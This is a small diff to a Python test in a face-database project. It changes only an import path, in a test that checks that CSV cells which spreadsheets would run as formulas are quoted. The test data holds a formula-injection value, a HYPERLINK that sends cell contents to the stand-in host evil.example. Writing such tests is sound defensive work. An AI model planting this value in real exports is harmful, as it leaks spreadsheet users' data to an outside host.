@@ -372,7 +372,7 @@ def test_the_crop_is_black_where_the_margin_runs_past_the_edge_and_keeps_the_fac
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted():
     import csv
 
-    from facedb.report import write_csv
+    from facedb.dedup.report_files import write_csv
 
     people = [
         {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
